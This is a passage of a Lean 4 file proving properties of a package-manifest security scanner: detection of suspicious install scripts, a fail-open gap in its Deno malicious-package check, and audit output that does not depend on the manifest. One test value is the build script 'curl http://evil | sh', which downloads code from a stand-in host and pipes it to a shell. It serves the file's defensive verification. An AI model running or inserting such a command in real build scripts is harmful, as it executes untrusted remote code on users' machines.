          scripts := some [("build", "curl http://evil | sh"), ("ok", "true")] } :=
  ⟨(suspicious_script_detection _ _ "build" "curl http://evil | sh"
      (by decide)).mpr (by decide),
   fun h => absurd ((suspicious_script_detection _ _ "ok" "true"
      (by decide)).mp h) (by decide)⟩

/-- C9: a dependency name missing from the `knownDenoPackages` cache — in
particular any name when the cache is empty or not yet populated — makes
the Deno check return immediately: it fetches nothing (empty fetch log),
flags nothing, cannot fail (its result is a value for every oracle), and
the scan emits no Deno issue for that name. -/
theorem deno_check_fail_open_gate (env : ScanEnv) (m : PackageJson) (pkg : String)
    (deno' : String → DenoResponse)
    (h : env.denoCache.contains pkg = false) :
    isDenoMaliciousPackage env.denoCache deno' pkg = (false, []) ∧
    Issue.denoMalicious pkg ∉ runScan env m := by
  constructor
  · unfold isDenoMaliciousPackage
    rw [h]
    rfl
  · intro hi
    rw [mem_runScan_iff] at hi
    rcases hi with hi | hi | hi | hi | hi
    · exact absurd (mem_metadataIssues_eq hi) (by simp)
    · obtain ⟨a, b, hh⟩ := mem_scriptIssues_shape hi; exact absurd hh (by simp)
    · rcases mem_primaryDepIssues_shape hi with ⟨a, b, hh⟩ | ⟨a, hh⟩ <;>
        exact absurd hh (by simp)
    · rcases mem_auditBlock_shape hi with ⟨n, sv, hh⟩ | hh <;> exact absurd hh (by simp)
    · unfold denoDepIssues at hi
      rw [List.mem_flatMap] at hi
      obtain ⟨kv, hkv, hh⟩ := hi
      unfold denoEntryIssues at hh
      split at hh
      · rename_i hflag
        simp at hh
        subst hh
        unfold isDenoMaliciousPackage at hflag
        rw [h] at hflag
        simp at hflag
      · simp at hh

/-- Witness for C9: with the cache empty (uninitialized) and the
dependency declared, the Deno check is skipped with no fetch. -/
theorem deno_check_fail_open_gate_witness :
    isDenoMaliciousPackage ([] : List String) (fun _ => .transportError) "lodash" =
      (false, []) :=
  (deno_check_fail_open_gate
    ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
    { name := some "app", version := some "1.0.0",
      dependencies := some [("lodash", "1.0.0")] }
    "lodash" (fun _ => .transportError) rfl).1

/-- C10: the audit-derived portion of every scan's output — the
`npm audit: …` entries, or the fixed failure string — equals
`auditBlockIssues` of the environment alone: it is identical for any two
manifests scanned under the same environment, so even a fully clean
manifest receives whatever the server-side audit produced. -/
theorem audit_portion_manifest_independent (env : ScanEnv) (m₁ m₂ : PackageJson) :
    (runScan env m₁).filter Issue.isAuditIssue = auditBlockIssues env.audit ∧
    (runScan env m₁).filter Issue.isAuditIssue =
      (runScan env m₂).filter Issue.isAuditIssue := by
  have key : ∀ m : PackageJson,
      (runScan env m).filter Issue.isAuditIssue = auditBlockIssues env.audit := by
    intro m
    rw [runScan_eq_segments]
    simp only [List.filter_append]
    have h1 : (metadataIssues m).filter Issue.isAuditIssue = [] := by
      rw [List.filter_eq_nil_iff]
      intro i hi
      rw [mem_metadataIssues_eq hi]
      simp [Issue.isAuditIssue]
    have h2 : (scriptIssues m).filter Issue.isAuditIssue = [] := by
      rw [List.filter_eq_nil_iff]
      intro i hi
      obtain ⟨k, s, rfl⟩ := mem_scriptIssues_shape hi
      simp [Issue.isAuditIssue]
    have h3 : (primaryDepIssues env.npm m).filter Issue.isAuditIssue = [] := by
      rw [List.filter_eq_nil_iff]
      intro i hi
      rcases mem_primaryDepIssues_shape hi with ⟨a, b, rfl⟩ | ⟨a, rfl⟩ <;>
        simp [Issue.isAuditIssue]
    have h4 : (auditBlockIssues env.audit).filter Issue.isAuditIssue =
        auditBlockIssues env.audit := by
      rw [List.filter_eq_self]
      intro i hi
      exact mem_auditBlock_isAudit hi
    have h5 : (denoDepIssues env.denoCache env.deno m).filter
        Issue.isAuditIssue = [] := by
      rw [List.filter_eq_nil_iff]
      intro i hi
      obtain ⟨a, rfl⟩ := mem_denoDepIssues_shape hi
      simp [Issue.isAuditIssue]
    rw [h1, h2, h3, h4, h5]
    simp
  exact ⟨key m₁, (key m₁).trans (key m₂).symm⟩

end PackageScanner
